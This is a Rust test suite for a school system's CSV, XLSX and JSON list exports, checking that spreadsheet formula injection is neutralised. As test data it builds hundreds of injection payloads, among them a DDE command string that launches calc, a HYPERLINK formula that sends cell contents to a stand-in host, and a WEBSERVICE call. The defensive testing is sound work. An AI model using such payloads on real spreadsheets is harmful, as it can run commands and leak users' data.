//! What is written reads back as it was, and no spreadsheet runs any of it.

use super::*;
use crate::listing::{Column, Kind};
use calamine::{Data, Reader, Xlsx};
use domain::{Date, Half, HalfDay};
use pages::Words;
use std::io::{Cursor, Read};

/// What makes a spreadsheet run a cell, also in full width.
const BEGINNINGS: [&str; 12] = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'="];

/// What could stand before it: a separator or a quotation mark that ends the cell too early.
const BEFORE: [&str; 8] = ["", "\"", "\",", ";", "x;", "\t", "\n", "a|"];

/// What it could do.
const BODIES: [&str; 8] = [
    "1+1",
    "64 21 555 0123",
    "",
    "HYPERLINK(\"http://example.invalid/?\"&A1,\"look\")",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)*2",
    "WEBSERVICE(\"http://example.invalid\")",
    "Ngāti -Whātua\"",
];

fn payloads() -> Vec<String> {
    let with =
        |before: &'static str, begin: &'static str| BODIES.map(|body| format!("{before}{begin}{body}"));
    BEFORE.iter().flat_map(|before| BEGINNINGS.iter().flat_map(move |begin| with(before, begin))).collect()
}

fn about() -> About {
    About {
        school: "=Tākaro & Sons \"School\"".to_owned(),
        number: "189".to_owned(),
        by: "@Ora".to_owned(),
        at: Instant::parse("2026-05-05T09:30:00+12:00").expect("a time"),
        zone: Zone::Auckland,
        filter: vec![("q".to_owned(), "=1+1".to_owned())],
        words: Words::en_nz(),
    }
}

fn column(name: &'static str, kind: Kind) -> Column {
    Column { name, title: format!("={name}"), kind }
}

/// A list with every payload in a cell of its own, between two others.
fn planted() -> Listing {
    let text = |text: &str| Cell::Text(text.to_owned());
    let row = |payload: &String| vec![text("before"), text(payload), text("after")];
    Listing {
        name: "students",
        title: "=Students".to_owned(),
        columns: vec![
            column("before", Kind::Text),
            column("payload", Kind::Text),
            column("after", Kind::Text),
        ],
        rows: payloads().iter().map(row).collect(),
    }
}

fn runs(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

#[test]
fn r32_no_cell_of_a_csv_file_is_run_and_each_reads_back_as_it_was() {
    let (payloads, listing) = (payloads(), planted());
    assert!(payloads.len() >= 500, "{}", payloads.len());
    let bytes = file(Format::Csv, &listing, &about()).expect("written");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let read: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
    assert_eq!(read.len(), payloads.len());
    for (row, payload) in read.iter().zip(&payloads) {
        assert_eq!((row.len(), &row[0], &row[2]), (3, "before", "after"), "{payload:?}");
        assert!(!runs(&row[1]), "{payload:?} as {:?}", &row[1]);
        assert_eq!(row[1].strip_prefix('\'').filter(|_| row[1] != **payload).unwrap_or(&row[1]), payload);
    }
    // The twin: without the guard, many would be.
    assert!(payloads.iter().filter(|payload| runs(payload)).count() > 100);
    // A program that takes more than the comma for a separator finds no further cell either: what
    // could be one is within quotation marks.
    let text = String::from_utf8(bytes).expect("UTF-8");
    let mut is_quoted = false;
    for letter in text.chars() {
        is_quoted ^= letter == '"';
        assert!(is_quoted || !matches!(letter, ';' | '\t' | '|' | '\r'), "{letter:?} outside quotes");
    }
}

#[test]
fn r32_names_that_look_like_formulas_come_back_from_an_export_through_our_own_import() {
    let is_name = |payload: &&String| {
        let is_line = !payload.chars().any(char::is_control) && payload.trim() == payload.as_str();
        is_line && !payload.is_empty()
    };
    let all = payloads();
    let mut names: Vec<String> = all.iter().filter(is_name).cloned().collect();
    names.extend(["-", "+64 21 555 0123", "'", "''=1", "O'Hara", "whānau"].map(str::to_owned));
    assert!(names.len() > 300, "{}", names.len());
    let text = |text: &str| Cell::Text(text.to_owned());
    let date: Date = "2026-02-02".parse().expect("a date");
    let row = |(at, name): (usize, &String)| {
        let mut row = vec![text(&format!("S{at}")), Cell::Empty, text(name), text("Sample")];
        row.extend([Cell::Empty, Cell::Empty, Cell::Empty, Cell::Date(date), Cell::Empty]);
        row
    };
    let names_of_columns = [
        "student_id",
        "nsn",
        "given_name",
        "family_name",
        "preferred_name",
        "year_level",
        "group",
        "start_date",
        "end_date",
    ];
    let listing = Listing {
        columns: names_of_columns.map(|name| column(name, Kind::Text)).to_vec(),
        rows: names.iter().enumerate().map(row).collect(),
        ..planted()
    };
    let bytes = file(Format::Csv, &listing, &about()).expect("written");
    let parsed = interop::contract::students(&bytes);
    assert!(parsed.problems.is_empty(), "{:?}", parsed.problems);
    let read: Vec<&String> = parsed.rows.iter().map(|row| &row.value.given_name).collect();
    assert_eq!(read, names.iter().collect::<Vec<_>>());
    assert!(parsed.rows.iter().all(|row| row.value.start_date == date));
}

#[test]
fn r32_a_workbook_holds_texts_and_not_one_formula() {
    let (payloads, listing) = (payloads(), planted());
    let bytes = file(Format::Xlsx, &listing, &about()).expect("written");
    let mut parts = zip::ZipArchive::new(Cursor::new(&bytes)).expect("a ZIP file");
    let mut names: Vec<String> = Vec::new();
    for at in 0..parts.len() {
        let mut part = parts.by_index(at).expect("a part");
        let (name, mut xml) = (part.name().expect("a name").into_owned(), String::new());
        part.read_to_string(&mut xml).expect("XML");
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{name}");
        // Nor anything that a workbook could fetch or run.
        let is_safe = !name.contains("externalLink") && !name.contains("vba") && !xml.contains("TargetMode");
        assert!(is_safe, "{name}");
        names.push(name);
    }
    assert!(names.iter().any(|name| name == "xl/worksheets/sheet1.xml"), "{names:?}");
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    let tabs = workbook.sheet_names().to_vec();
    assert_eq!(tabs, ["=Students", "About this file"]);
    for tab in &tabs {
        let formulas = workbook.worksheet_formula(tab).expect("a sheet");
        assert_eq!(formulas.used_cells().count(), 0, "{tab}");
    }
    let sheet = workbook.worksheet_range("=Students").expect("a sheet");
    for (at, payload) in (1u32..).zip(&payloads) {
        let cell = sheet.get_value((at, 1)).cloned().unwrap_or(Data::Empty);
        assert_eq!(cell, Data::String(payload.clone()), "{payload:?}");
    }
}

#[test]
fn r32_json_is_read_back_as_it_was() {
    let bytes = file(Format::Json, &planted(), &about()).expect("written");
    let read: Value = serde_json::from_slice(&bytes).expect("JSON");
    let rows = read["rows"].as_array().expect("rows");
    for (row, payload) in rows.iter().zip(payloads()) {
        assert_eq!(row["payload"], json!(payload));
    }
    assert_eq!(rows.len(), payloads().len());
}

/// One row of every kind.
fn small() -> Listing {
    let half_day = HalfDay::new("2026-05-04".parse().expect("a date"), Half::Pm);
    let rows = crate::listing::Rows::of(Words::en_nz(), "today", [(half_day, 23u32), (half_day, 10)])
        .text("student_id", |(_, half_days)| format!("S{half_days}"))
        .half_day(("reached_on", "reached_half"), |(half_day, _)| Some(*half_day))
        .time("at", |_| Some(about().at))
        .number("attempts", |_| 2)
        .days("days_absent", |(_, half_days)| *half_days)
        .tenths("attendance_percent", |(_, half_days)| (*half_days > 10).then_some(923))
        .yes("late", |(_, half_days)| *half_days > 10);
    rows.done()
}

#[test]
fn a_csv_file_is_as_the_contract_has_it() {
    let bytes = file(Format::Csv, &small(), &about()).expect("written");
    let expected = "student_id,reached_on,reached_half,at,attempts,days_absent,attendance_percent,late\n\
        S23,2026-05-04,pm,2026-05-05T09:30:00+12:00,2,11.5,92.3,yes\n\
        S10,2026-05-04,pm,2026-05-05T09:30:00+12:00,2,5.0,,\n";
    assert_eq!(String::from_utf8(bytes).expect("UTF-8"), expected);
}

#[test]
fn a_json_file_says_what_it_is_and_types_what_it_holds() {
    let bytes = file(Format::Json, &small(), &about()).expect("written");
    let text = String::from_utf8(bytes).expect("UTF-8");
    // The members of a row stand in the order of the columns.
    assert!(
        text.contains("{\"student_id\": \"S23\", \"reached_on\": \"2026-05-04\", \"reached_half\": \"pm\"")
    );
    let read: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(
        read["rows"][0],
        json!({
            "student_id": "S23", "reached_on": "2026-05-04", "reached_half": "pm",
            "at": "2026-05-05T09:30:00+12:00", "attempts": 2, "days_absent": 11.5,
            "attendance_percent": 92.3, "late": "yes",
        })
    );
    assert_eq!(read["rows"][1]["attendance_percent"], Value::Null);
    assert_eq!((&read["list"], &read["row_count"]), (&json!("today"), &json!(2)));
    assert_eq!(read["school"], json!({"number": "189", "name": "=Tākaro & Sons \"School\""}));
    assert_eq!((&read["made_by"], &read["made_at"]), (&json!("@Ora"), &json!("2026-05-05T09:30:00+12:00")));
    assert_eq!(read["filter"], json!({"q": "=1+1"}));
    // Every member of every row is a column, of the kind that it says.
    let columns = read["columns"].as_array().expect("columns");
    for row in read["rows"].as_array().expect("rows") {
        let row = row.as_object().expect("a row");
        assert_eq!(row.len(), columns.len());
        for column in columns {
            let value = &row[column["name"].as_str().expect("a name")];
            let is_number = ["number", "days"].contains(&column["kind"].as_str().expect("a kind"));
            assert!(value.is_null() || value.is_number() == is_number, "{column} {value}");
        }
    }
    // A list of nothing is one too.
    let none = Listing { rows: Vec::new(), ..small() };
    let bytes = file(Format::Json, &none, &about()).expect("written");
    let read: Value = serde_json::from_slice(&bytes).expect("JSON");
    assert_eq!(read["rows"], json!([]));
}

#[test]
fn a_workbook_types_its_cells_freezes_its_header_and_says_whose_it_is() {
    let bytes = file(Format::Xlsx, &small(), &about()).expect("written");
    let mut parts = zip::ZipArchive::new(Cursor::new(&bytes)).expect("a ZIP file");
    let mut part = |name: &str| {
        let mut text = String::new();
        parts.by_name(name).expect(name).read_to_string(&mut text).expect("XML");
        text
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<cols>"), "{sheet}");
    assert!(sheet.contains("Example") || sheet.contains("Sons"), "the foot of each page says whose it is");
    let core = part("docProps/core.xml");
    assert!(
        core.contains("@Ora") && core.contains("Today") && core.contains("2026-05-04T21:30:00Z"),
        "{core}"
    );
    assert!(part("docProps/app.xml").contains("Tākaro"));
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    let sheet = workbook.worksheet_range("Today").expect("a sheet");
    let row = sheet.rows().nth(1).expect("a row");
    assert_eq!(row[0], Data::String("S23".to_owned()));
    for date in [&row[1], &row[3]] {
        assert!(matches!(date, Data::DateTime(_)), "{date:?}");
    }
    assert_eq!((&row[4], &row[5], &row[6]), (&Data::Float(2.0), &Data::Float(11.5), &Data::Float(92.3)));
    let told = workbook.worksheet_range("About this file").expect("a sheet");
    let told: Vec<String> = told.rows().map(|row| format!("{}: {}", row[0], row[1])).collect();
    assert_eq!(told[0], "School: =Tākaro & Sons \"School\" (189)");
    assert_eq!((told[1].as_str(), told[3].as_str()), ("List: Today", "Taken by: @Ora"));
    assert_eq!((told[2].as_str(), told[5].as_str()), ("Narrowed to: q==1+1", "Rows: 2"));
}

/// What LibreOffice makes of a file: a flat document, in which a formula is an attribute.
fn opened(directory: &std::path::Path, name: &str, filter: &str) -> String {
    let office = std::process::Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}/profile", directory.display()))
        .args(["--headless", "--convert-to", "fods", filter, "--outdir"])
        .arg(directory)
        .arg(directory.join(name))
        .output()
        .expect("soffice can be started");
    let stem = name.split('.').next().unwrap_or_default();
    let path = directory.join(format!("{stem}.fods"));
    let told = String::from_utf8_lossy(&office.stderr).into_owned();
    let text = std::fs::read_to_string(&path).unwrap_or_else(|problem| panic!("{problem}: {told}"));
    std::fs::remove_file(path).expect("removed");
    text
}

/// Where LibreOffice is installed (`apt-get install --no-install-recommends libreoffice-calc`), its own
/// eyes; the tests above look into the same files without it.
#[test]
fn r32_libreoffice_opens_the_files_and_finds_no_formula() {
    if std::process::Command::new("soffice").arg("--version").output().is_err() {
        println!("LibreOffice is not here: not tried");
        return;
    }
    let directory = std::env::temp_dir().join(format!("starboard-office-{}", std::process::id()));
    std::fs::create_dir_all(&directory).expect("a directory");
    let keep = |name: &str, bytes: &[u8]| std::fs::write(directory.join(name), bytes).expect("kept");
    let formulas = |text: &str| text.matches("table:formula=").count();
    keep("guarded.csv", &file(Format::Csv, &planted(), &about()).expect("written"));
    keep("book.xlsx", &file(Format::Xlsx, &planted(), &about()).expect("written"));
    let naive: Vec<Vec<String>> = payloads().into_iter().map(|text| vec![text]).collect();
    keep("naive.csv", export_text::csv(&["payload"], naive.iter().map(Vec::as_slice)).as_bytes());
    // Comma alone, and every separator that the program offers at once; UTF-8; formulas evaluated.
    for separators in ["44", "44/59/9/124"] {
        let filter = format!(
            "--infilter=Text - txt - csv (StarCalc):{separators},34,76,1,,0,false,false,false,false,false,-1,true"
        );
        let twin = opened(&directory, "naive.csv", &filter);
        assert!(formulas(&twin) >= 5, "{}", formulas(&twin));
        let text = opened(&directory, "guarded.csv", &filter);
        assert_eq!(formulas(&text), 0, "{separators}");
    }
    let text = opened(&directory, "book.xlsx", "--infilter=Calc MS Excel 2007 XML");
    assert_eq!(formulas(&text), 0);
    assert!(text.contains("Ngāti -Whātua") && text.contains("+64 21 555 0123"));
    std::fs::remove_dir_all(&directory).expect("removed");
}
